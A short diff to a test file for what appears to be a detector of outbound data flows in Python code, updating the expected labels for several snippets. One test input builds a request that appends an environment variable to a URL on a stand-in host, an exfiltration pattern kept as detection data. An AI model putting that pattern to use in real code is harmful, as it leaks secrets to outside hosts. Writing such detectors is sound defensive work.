@@ -72,7 +72,7 @@ test("what code only fetches sends nothing, and what it posts does", () => {
   expect(sends("import requests; requests.get('https://h.example/v')")).toEqual([[]]);
   expect(sends("import requests; requests.post('https://h.example/v')")).toEqual([["unknown"]]);
   expect(sends("import requests,os; requests.get('https://h.example/'+os.environ['K'])")).toEqual([
-    ["unknown"],
+    ["unknown", "variable"],
   ]);
   expect(sends("d={}; d.get('projects')")).toEqual([]);
 });
